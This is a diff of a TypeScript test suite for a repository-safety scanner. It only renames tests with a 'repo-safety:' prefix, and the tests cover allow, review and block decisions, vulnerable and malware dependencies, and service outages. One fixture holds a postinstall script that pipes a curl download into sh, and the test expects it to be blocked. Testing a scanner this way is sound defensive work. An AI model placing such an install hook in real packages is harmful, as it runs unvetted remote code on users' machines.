@@ -32,7 +32,7 @@ const refusal = async (repo: FakeRepo, input: unknown = INPUT) => {
 const codes = ({ indicators }: Answer) => indicators.map(({ code }) => code)
 const withFiles = (files: Record<string, string>): FakeRepo => ({ files: { ...goodFiles(), ...files } })
 
-test('a repository that does everything right is allowed', async () => {
+test('repo-safety: a repository that does everything right is allowed', async () => {
   const answer = await look({ files: goodFiles() })
   expect(answer).toMatchObject({
     decision: 'allow',
@@ -57,7 +57,7 @@ test('a repository that does everything right is allowed', async () => {
   ])
 })
 
-describe('addresses', () => {
+describe('repo-safety: addresses', () => {
   test.each([
     'nope',
     'https://example.com/a/b',
@@ -88,7 +88,7 @@ describe('addresses', () => {
   })
 })
 
-describe('indicators', () => {
+describe('repo-safety: indicators', () => {
   test('a postinstall that pipes a download into a shell is blocked, at 39 points at most', async () => {
     const json = JSON.stringify({ name: 'widgets', scripts: { postinstall: 'curl http://x|sh' } })
     const answer = await look(withFiles({ 'package.json': json }))
@@ -136,39 +136,39 @@ describe('indicators', () => {
   })
 })
 
-test('an archived repository, clean, is for review and at most 69', async () => {
+test('repo-safety: an archived repository, clean, is for review and at most 69', async () => {
   const answer = await look({ files: goodFiles(), info: { archived: true } })
   expect(answer.decision).toBe('review')
   expect(answer.score).toBeLessThanOrEqual(69)
   expect(answer.reasons.map(({ code }) => code)).toContain('archived')
 })
 
-test('a locked version with a known hole is told with its fix', async () => {
+test('repo-safety: a locked version with a known hole is told with its fix', async () => {
   const files = { ...goodFiles(), 'package-lock.json': npmLock({ lodash: { version: '4.17.20' } }) }
   const answer = await look({ files, advisories: { 'lodash@4.17.20': [LODASH.id] } })
   expect(answer.vulnerabilities).toMatchObject([{ id: LODASH.id, fixed_in: '4.17.21', severity: 'high' }])
   expect(answer.decision).toBe('review')
 })
 
-test('a hole in what only builds and tests is told, and asks for no review', async () => {
+test('repo-safety: a hole in what only builds and tests is told, and asks for no review', async () => {
   const files = { ...goodFiles(), 'package-lock.json': npmLock({ lodash: { version: '4.17.20', dev: true } }) }
   const answer = await look({ files, advisories: { 'lodash@4.17.20': [LODASH.id] } })
   expect(answer).toMatchObject({ decision: 'allow', vulnerabilities: [{ id: LODASH.id, dev: true }] })
 })
 
-test('code that could not be fetched is unknown, and for review', async () => {
+test('repo-safety: code that could not be fetched is unknown, and for review', async () => {
   const answer = await look({ files: goodFiles(), instead: { 'github-raw': 'timeout' } })
   expect(answer).toMatchObject({ decision: 'review', indicators: [] })
   expect(answer.reasons.map(({ code }) => code)).toContain('code_unknown')
   expect(answer.unknowns.join()).toContain('could not be fetched')
 })
 
-test('a dependency that is malware is blocked', async () => {
+test('repo-safety: a dependency that is malware is blocked', async () => {
   const files = { ...goodFiles(), 'package-lock.json': npmLock({ evil: { version: '1.0.0' } }) }
   expect(await look({ files, advisories: { 'evil@1.0.0': ['MAL-2026-1'] } })).toMatchObject({ decision: 'block' })
 })
 
-describe('parts that fail', () => {
+describe('repo-safety: parts that fail', () => {
   test('with OSV down nothing is known of holes, and that is said', async () => {
     const answer = await look({ files: goodFiles(), instead: { osv: 'server_error' } })
     expect(answer.vulnerabilities).toEqual([])
@@ -205,7 +205,7 @@ describe('parts that fail', () => {
   })
 })
 
-test('a published OpenSSF Scorecard counts and is shown', async () => {
+test('repo-safety: a published OpenSSF Scorecard counts and is shown', async () => {
   const card = {
     date: '2026-11-16',
     score: 5.1,
@@ -219,7 +219,7 @@ test('a published OpenSSF Scorecard counts and is shown', async () => {
   expect(answer.checks.find(({ id }) => id === 'scorecard')).toMatchObject({ status: 'warn' })
 })
 
-test('the digest cites the very body that was sent', async () => {
+test('repo-safety: the digest cites the very body that was sent', async () => {
   const [one, other] = [
     await look({ files: goodFiles() }),
     await look({ files: goodFiles() }, { ...INPUT, note: 'mine' }),
